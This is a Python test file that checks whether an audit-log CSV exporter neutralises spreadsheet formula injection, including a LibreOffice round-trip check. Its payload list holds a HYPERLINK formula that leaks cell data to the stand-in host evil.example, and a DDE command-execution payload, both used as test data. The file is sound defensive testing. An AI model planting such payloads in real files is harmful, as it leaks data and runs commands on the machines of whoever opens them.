"""CSV exports cannot smuggle formulas into a spreadsheet (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
import os
import shutil
import subprocess
from pathlib import Path

import openpyxl
import pytest

from vault.audit.export_format import CSV_COLUMNS, CSV_TRIGGERS
from vault.audit.writers import export_audit, neutralise_cell
from vault.people import PersonFields

#: One payload per trigger character; each would be a live formula if left alone.
PAYLOADS = [f"{ch}SUM(1,2)" if ch in "=+-@" else f"{ch}=SUM(1,2)" for ch in CSV_TRIGGERS]
PAYLOADS += ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "=cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"]


def test_every_trigger_character_is_neutralised():
    for ch in CSV_TRIGGERS:
        assert neutralise_cell(f"{ch}x") == f"'{ch}x"
    for safe in ("Ada", "", "'=already quoted", " =space first", "{\"a\":1}", "0", "2026-03-01"):
        assert neutralise_cell(safe) == safe


def _vault_with_payloads(vault):
    """Payloads reach the CSV as names (annotations) and as subject ids and types of events."""
    for payload in PAYLOADS:
        stripped = payload.strip()
        if stripped and "\0" not in stripped:
            vault.people.add(PersonFields(full_name=payload))
    with vault.transaction():
        for payload in PAYLOADS:
            vault.record("settings.changed", payload, payload, {"setting": payload})


def _cells(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))


def test_csv_export_neutralises_payloads_and_stays_rfc4180(vault, tmp_path):
    _vault_with_payloads(vault)
    out = tmp_path / "audit.csv"
    export_audit(vault, out, "csv")
    rows = _cells(out)
    width = len(CSV_COLUMNS)
    assert all(len(row) == width for row in rows)  # quoting kept CR, LF, commas and quotes inside cells
    cells = [cell for row in rows for cell in row]
    for cell in cells:
        assert not cell.startswith(CSV_TRIGGERS), repr(cell)
    for payload in PAYLOADS:
        assert "'" + payload in cells, payload  # the value survives, only made inert
    names = [row[7] for row in rows if row[5] == "person"]
    assert "'=SUM(1,2)" in names and "'@SUM(1,2)" in names


SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")


@pytest.mark.slow
@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (Debian libreoffice-calc) is not installed")
def test_libreoffice_round_trip_has_no_formula_cell(vault, tmp_path):
    """Convert the export with LibreOffice headless (formula evaluation on) and read it back."""
    _vault_with_payloads(vault)
    out = tmp_path / "audit.csv"
    export_audit(vault, out, "csv")
    # Control: the same payloads without neutralising do become formulas, so the check can see them.
    control = tmp_path / "control.csv"
    control.write_text("a\r\n=SUM(1;2)\r\n", "utf-8")
    profile = tmp_path / "lo-profile"
    for source in (out, control):
        subprocess.run(
            [SOFFICE, f"-env:UserInstallation=file://{profile}", "--headless",
             "--infilter=CSV:44,34,76,1,,0,false,true,true,false,false,,true",
             "--convert-to", "xlsx", "--outdir", str(tmp_path), str(source)],
            check=True, capture_output=True, timeout=180, env={**os.environ, "HOME": str(tmp_path)},
        )
    control_sheet = openpyxl.load_workbook(tmp_path / "control.xlsx").active
    assert control_sheet["A2"].data_type == "f"

    sheet = openpyxl.load_workbook(tmp_path / "audit.xlsx").active
    seen = []
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
            if isinstance(cell.value, str):
                assert not cell.value.startswith("="), cell.coordinate
                seen.append(cell.value)
    assert sheet.max_row >= len(_cells(out))
    for payload in PAYLOADS:
        if "\0" not in payload and "\r" not in payload:
            assert any(payload in value for value in seen), payload
